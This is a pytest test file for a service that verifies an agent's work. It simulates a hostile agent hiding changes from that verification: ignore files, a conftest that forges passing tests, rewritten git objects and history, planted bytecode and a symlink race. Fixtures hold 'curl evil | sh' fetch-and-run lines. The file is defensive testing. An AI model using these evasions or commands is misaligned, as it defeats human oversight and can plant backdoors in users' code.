"""A hostile agent hiding a change from verification: ignore rules, caches, `.git` internals, budgets.

Each test plays the agent on a real git repository (or plain directory) with real files, through
the same public calls the service uses (`snapshot`, `changed_files`, `verdict`, `run_checks`).
"""

from __future__ import annotations

import os
import subprocess
import sys
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fleet.work.checks import Sandbox, run_checks
from fleet.work.report import Report
from fleet.work.verify import Snapshot, SnapshotError, changed_files, snapshot, verdict


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    (root / "tests").mkdir()
    git(root, "init", "-q", "-b", "main")
    git(root, "config", "user.email", "t@example.invalid")
    git(root, "config", "user.name", "t")
    (root / "src" / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    (root / "tests" / "test_calc.py").write_text("from calc import add\n\ndef test_add():\n    assert add(2, 2) == 4\n")
    (root / ".gitignore").write_text("__pycache__/\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "init")
    return root


def done(*changed: str) -> Report:
    return Report(status="done", summary="s", changed=changed, tests="", risks="")


def after(before: Snapshot) -> list[str]:
    return changed_files(before, snapshot(before.cwd, since=before))


def test_a_self_written_star_gitignore_does_not_hide_a_new_out_of_scope_file(repo: Path) -> None:
    before = snapshot(repo)
    (repo / "tools").mkdir()
    (repo / "tools" / ".gitignore").write_text("*\n")
    (repo / "tools" / "backdoor.sh").write_text("curl evil | sh\n")
    changed = after(before)
    assert changed == ["tools/.gitignore", "tools/backdoor.sh"]
    v = verdict(done(), changed, ["src/"], "worker")
    assert v.verdict == "rejected"
    assert v.reasons[0].code == "outside_scope"


def test_a_self_ignored_conftest_that_turns_a_failing_check_green_is_rejected(repo: Path) -> None:
    """The agent leaves the bug, writes a conftest that reports every test as passed, and hides it in
    `.git/info/exclude`. The check passes, but the conftest (and the exclude file) are changes."""
    before = snapshot(repo)
    (repo / "tests" / "conftest.py").write_text(
        "import pytest\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
        "    outcome = yield\n    report = outcome.get_result()\n    report.outcome = 'passed'\n")
    with (repo / ".git" / "info" / "exclude").open("a") as f:
        f.write("tests/conftest.py\n")
    assert git(repo, "status", "--porcelain") == ""  # git itself no longer shows it
    changed = after(before)
    bare = Sandbox(argv=(), env=dict(os.environ), mode="none")  # the forged green is the point, not the sandbox
    checks = run_checks([f"{sys.executable} -m pytest -q -p no:cacheprovider --rootdir=. "
                         "-o pythonpath=src tests"], repo, timeout=120,
                        sandbox=bare)
    assert checks[0].passed, checks[0].output_tail  # the forged green
    assert changed == [".git/info/exclude", "tests/conftest.py"]
    v = verdict(done("src/calc.py"), changed, ["src/"], "worker", checks)
    assert v.verdict == "rejected"
    assert [r.code for r in v.reasons] == ["outside_scope", "unreported", "unchanged"]


def test_core_excludesfile_hides_nothing(repo: Path) -> None:
    before = snapshot(repo)
    (repo / "my-excludes").write_text("*.txt\nmy-excludes\n")
    git(repo, "config", "core.excludesFile", str(repo / "my-excludes"))
    (repo / "notes.txt").write_text("n\n")
    assert git(repo, "status", "--porcelain", "--untracked-files=all") == ""  # git hides both
    assert after(before) == [".git/config", "my-excludes", "notes.txt"]


def test_a_global_gitignore_hides_nothing(repo: Path, tmp_path: Path) -> None:
    before = snapshot(repo)
    (tmp_path / "xdg-config" / "git").mkdir(parents=True)  # conftest points XDG_CONFIG_HOME here
    (tmp_path / "xdg-config" / "git" / "ignore").write_text("*.py\n")
    (repo / "src" / "extra.py").write_text("x = 1\n")
    assert git(repo, "status", "--porcelain", "--untracked-files=all") == ""
    assert after(before) == ["src/extra.py"]


def test_a_planted_pyc_in_pycache_counts_in_a_plain_tree_and_in_git(repo: Path, tmp_path: Path) -> None:
    """A .pyc whose header matches the unchanged .py makes the import run the planted bytecode."""
    plain = tmp_path / "plain"
    (plain / "pkg").mkdir(parents=True)
    (plain / "pkg" / "m.py").write_text("X = 1\n")
    for cwd in (plain / "pkg", repo / "src"):
        before = snapshot(cwd)
        (cwd / "__pycache__").mkdir(exist_ok=True)
        (cwd / "__pycache__" / "calc.cpython-311.pyc").write_bytes(b"\xa7\r\r\n" + b"\0" * 12 + b"planted")
        assert after(before) == ["__pycache__/calc.cpython-311.pyc"], cwd


def test_changes_inside_git_hooks_config_and_info_count(repo: Path) -> None:
    before = snapshot(repo)
    (repo / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    (repo / ".git" / "hooks" / "pre-commit").chmod(0o755)
    git(repo, "config", "core.fsmonitor", "true")
    (repo / ".git" / "info" / "attributes").write_text("* filter=x\n")
    assert after(before) == [".git/config", ".git/hooks/pre-commit", ".git/info/attributes"]


def test_moving_another_branch_or_adding_a_tag_counts(repo: Path) -> None:
    git(repo, "branch", "release")
    before = snapshot(repo)
    (repo / "src" / "calc.py").write_text("evil = 1\n")
    git(repo, "commit", "-q", "-am", "evil")
    git(repo, "branch", "-f", "release", "HEAD")  # the agent's commit, now also on the release branch
    git(repo, "checkout", "-q", "HEAD~1", "--", "src/calc.py")
    git(repo, "tag", "v1")
    assert after(before) == [".git/logs/refs/heads/release", ".git/refs/heads/release", ".git/refs/tags/v1",
                             "src/calc.py"]


def test_a_commit_counts_only_its_paths_even_when_git_freshens_old_objects(repo: Path) -> None:
    before = snapshot(repo)
    blob = git(repo, "rev-parse", "HEAD:src/calc.py").strip()
    obj = repo / ".git" / "objects" / blob[:2] / blob[2:]
    os.utime(obj, ns=(1, 1))  # so that git's freshening is sure to move the stat
    (repo / "src" / "copy.py").write_bytes((repo / "src" / "calc.py").read_bytes())  # an existing blob
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "copy")
    assert obj.stat().st_mtime_ns != 1  # git touched the old object; its content is proven unchanged
    assert after(before) == ["src/copy.py"]


def test_a_rewritten_object_counts_even_though_work_tree_and_refs_are_untouched(repo: Path) -> None:
    """Replacing the blob HEAD names for calc.py: the next checkout would bring the agent's code."""
    before = snapshot(repo)
    blob = git(repo, "rev-parse", "HEAD:src/calc.py").strip()
    obj = repo / ".git" / "objects" / blob[:2] / blob[2:]
    evil = b"def add(a, b):\n    return a + b  # and a backdoor\n"
    obj.chmod(0o644)
    st = obj.stat()
    obj.write_bytes(zlib.compress(b"blob %d\0" % len(evil) + evil))
    os.utime(obj, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert after(before) == [f".git/objects/{blob[:2]}/{blob[2:]}"]


def test_rewritten_history_counts_even_when_the_tree_is_the_same(repo: Path) -> None:
    (repo / "src" / "calc.py").write_text("fixed = 1\n")
    git(repo, "commit", "-q", "-am", "the user's own commit")
    before = snapshot(repo)
    git(repo, "reset", "-q", "--soft", "HEAD~1")  # drop the user's commit, keep its tree, recommit it
    git(repo, "commit", "-q", "-m", "the agent's commit now", "--author", "agent <a@example.invalid>")
    assert after(before) == [".git/HEAD"]
    git(repo, "commit", "-q", "--allow-empty", "-m", "a plain new commit on top")
    assert after(snapshot(repo)) == []  # moving forward is no rewrite


def test_a_fifo_or_socket_neither_hangs_the_snapshot_nor_hides(repo: Path) -> None:
    import socket

    before = snapshot(repo)
    os.mkfifo(repo / "src" / "pipe")
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(repo / "src" / "sock"))
        assert after(before) == ["src/pipe", "src/sock"]


def test_a_new_pack_and_a_file_stashed_in_the_reflogs_count(repo: Path) -> None:
    """A new pack can shadow a loose object under the same name (git reads packs first)."""
    before = snapshot(repo)
    subprocess.run(["git", "-C", str(repo), "pack-objects", "-q", "--revs", ".git/objects/pack/pack"],
                   input="HEAD\n", text=True, capture_output=True, check=True)
    (repo / ".git" / "logs" / "evil.py").write_text("print('stashed')\n")
    changed = after(before)
    assert changed[0] == ".git/logs/evil.py"
    assert [p.rsplit(".", 1)[1] for p in changed[1:]] == ["idx", "pack"]


def test_a_change_staged_but_not_in_the_work_tree_counts(repo: Path) -> None:
    before = snapshot(repo)
    blob = subprocess.run(["git", "-C", str(repo), "hash-object", "-w", "--stdin"], input="evil\n", text=True,
                          capture_output=True, check=True).stdout.strip()
    git(repo, "update-index", "--cacheinfo", f"100644,{blob},src/calc.py")
    assert after(before) == ["src/calc.py"]


def test_a_git_file_swapped_in_for_the_git_dir_fails_closed(repo: Path, tmp_path: Path) -> None:
    before = snapshot(repo)
    os.rename(repo / ".git", tmp_path / "elsewhere.git")
    (repo / ".git").write_text(f"gitdir: {tmp_path / 'elsewhere.git'}\n")
    with pytest.raises(SnapshotError, match="at send time"):
        snapshot(repo, since=before)


def test_a_hash_budget_hit_makes_the_comparison_unverifiable(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The budget is lowered so the test needs no 512 MiB of files."""
    import fleet.work.snapshot as snap

    before = snapshot(repo)
    monkeypatch.setattr(snap, "MAX_HASH_BYTES", 10)
    later = snapshot(repo, since=before)
    assert later.notes
    assert "could only be compared by size and mtime" in later.notes[0]
    v = verdict(done(), changed_files(before, later), ["src/"], "worker", (), (*before.notes, *later.notes))
    assert v.verdict == "rejected"
    assert v.reasons[0].code == "unverifiable"


def test_an_unreadable_directory_makes_the_comparison_unverifiable(repo: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """Opening one directory is made to fail: the tests run as root, which reads any mode."""
    real = os.open

    def refusing(path: object, flags: int, *args: object, **kwargs: object) -> int:
        if path == "tests" and flags & os.O_DIRECTORY:
            raise PermissionError(13, "Permission denied")
        return real(path, flags, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "open", refusing)
    snap = snapshot(repo)
    assert snap.notes == ("fleet could not read tests/ (Permission denied) (make it readable, or keep it out of "
                          "the cwd)",)


class _SwapAfterListing:
    """os.scandir's context manager, listing first and then running `swap`: a live process of the
    agent's winning the race between fleet listing a directory and entering a subdirectory."""

    def __init__(self, it: object, swap: Callable[[], None]) -> None:
        self.it, self.swap = it, swap

    def __enter__(self) -> object:
        entries = list(self.it.__enter__())  # type: ignore[attr-defined]
        self.swap()
        return iter(entries)

    def __exit__(self, *exc: object) -> None:
        self.it.__exit__(*exc)  # type: ignore[attr-defined]


def test_a_directory_swapped_for_a_symlink_mid_walk_is_not_followed(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    cwd = tmp_path / "plain"
    (cwd / "src").mkdir(parents=True)
    (cwd / "src" / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    pristine = tmp_path / "pristine"
    pristine.mkdir()
    (pristine / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    before = snapshot(cwd)
    (cwd / "src" / "calc.py").write_text("backdoor()\n")
    real = os.scandir
    calls = []

    def swap() -> None:
        os.rename(cwd / "src", tmp_path / "real-src")
        os.symlink(pristine, cwd / "src")

    def scandir(path: object) -> object:
        calls.append(path)
        return _SwapAfterListing(real(path), swap) if len(calls) == 1 else real(path)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "scandir", scandir)
    later = snapshot(cwd, since=before)
    monkeypatch.setattr(os, "scandir", real)
    v = verdict(done("src/calc.py"), changed_files(before, later), ["src/"], "worker", (),
                (*before.notes, *later.notes))
    assert v.verdict == "rejected"
    assert v.reasons[0].code == "unverifiable"


def test_a_note_alone_rejects_the_work() -> None:
    v = verdict(done("src/a.py"), ["src/a.py"], ["src/"], "worker", (), ("the cwd holds more than 5 files",))
    assert v.verdict == "rejected"
    assert [r.code for r in v.reasons] == ["unverifiable"]
    assert "more than 5 files" in v.reasons[0].message


states = st.sampled_from([None, "sha256:aa", "sha256:bb", "sha256:aax", "link:x", "stat:1:2"])
LOOSE = ".git/objects/ab/" + "c" * 38
names = st.sampled_from(["a", "src/b", "__pycache__/c.pyc", ".git/config", LOOSE,
                         f".git/objects/pack/pack-{'d' * 40}.pack", "sub/.git/objects/ab/" + "c" * 38])


@given(st.dictionaries(names, states), st.dictionaries(names, states))
def test_every_path_whose_state_differs_is_changed_except_a_new_loose_object(old: dict[str, str | None],
                                                                          new: dict[str, str | None]) -> None:
    a = Snapshot(cwd="/w", kind="git", taken_at=0, files=old, git_rel=".git")
    b = Snapshot(cwd="/w", kind="git", taken_at=1, files=new, git_rel=".git")
    expected = {p for p in set(old) | set(new) if old.get(p) != new.get(p)}
    expected -= {p for p in expected if p == LOOSE and old.get(p) is None}
    assert changed_files(a, b) == sorted(expected)
    assert changed_files(a, a) == []
